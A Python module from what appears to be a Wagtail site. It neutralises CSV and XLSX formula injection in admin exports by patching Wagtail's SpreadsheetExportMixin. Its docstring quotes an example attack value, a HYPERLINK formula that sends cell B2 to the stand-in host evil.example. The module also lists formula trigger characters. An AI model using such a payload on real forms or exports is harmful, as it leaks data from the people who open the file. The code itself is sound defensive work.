"""Spreadsheet exports that cannot run formulas (CSV/formula injection, OWASP "CSV Injection").

A resident who registers for an event as `=HYPERLINK("https://evil.example/?"&B2, "Click")`, or submits an idea
with such a title, must not get a formula into the file a clerk opens in Excel or LibreOffice. Text that starts
with `=`, `+`, `-`, `@`, a tab or a carriage return is neutralised:

- CSV: prefixed with a single quote `'` (what OWASP recommends; spreadsheets show the text, never evaluate it);
- XLSX: written as a text cell with Excel's "quote prefix" flag (the file's own way to say "text, not formula",
  so the cell shows the text as typed, without a visible quote, and stays text when edited).

Real numbers, dates and empty cells are left alone, so amounts stay numbers in XLSX and `-5` stays `-5`.

Every CSV/XLSX export in the admin goes through Wagtail's SpreadsheetExportMixin: ours (event registrations,
home/wagtail_hooks.py; the ideas queue, ideas/moderation; contact-form submissions, wagtail.contrib.forms) and
Wagtail's own reports (site history, whose labels carry residents' idea titles and names; page and workflow
reports). Wagtail 8 only turns text that openpyxl takes for a formula (a leading `=`) back into text in XLSX,
and does nothing for CSV (wagtail/admin/views/mixins.py). Its built-in report views cannot be swapped for
subclasses, so `install()` (called from HomeConfig.ready) adds the neutralising step to the mixin itself, once,
for all of them. A hand-written CSV elsewhere must pass its cells through `neutralise()`.
"""

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value):
    """True for text a spreadsheet could take for a formula (or DDE command)."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def neutralise(value):
    """A CSV cell value that no spreadsheet evaluates: formula-like text gets a leading `'`; numbers, dates,
    None and other text are returned unchanged."""
    return "'" + value if is_formula_like(value) else value


def install():
    """Make every SpreadsheetExportMixin export (CSV and XLSX) neutralise formula-like text; idempotent."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin, "kopa_neutralises_formulas", False):
        return
    preprocess_field_value = SpreadsheetExportMixin.preprocess_field_value
    generate_xlsx_row = SpreadsheetExportMixin.generate_xlsx_row

    def safe_preprocess_field_value(self, field, value, export_format):
        value = preprocess_field_value(self, field, value, export_format)
        return neutralise(value) if export_format == self.FORMAT_CSV else value

    def safe_generate_xlsx_row(self, worksheet, row_dict, date_format=None):
        for cell in generate_xlsx_row(self, worksheet, row_dict, date_format=date_format):
            if is_formula_like(cell.value):
                cell.data_type = "s"
                cell.quotePrefix = True
            yield cell

    SpreadsheetExportMixin.preprocess_field_value = safe_preprocess_field_value
    SpreadsheetExportMixin.generate_xlsx_row = safe_generate_xlsx_row
    SpreadsheetExportMixin.kopa_neutralises_formulas = True
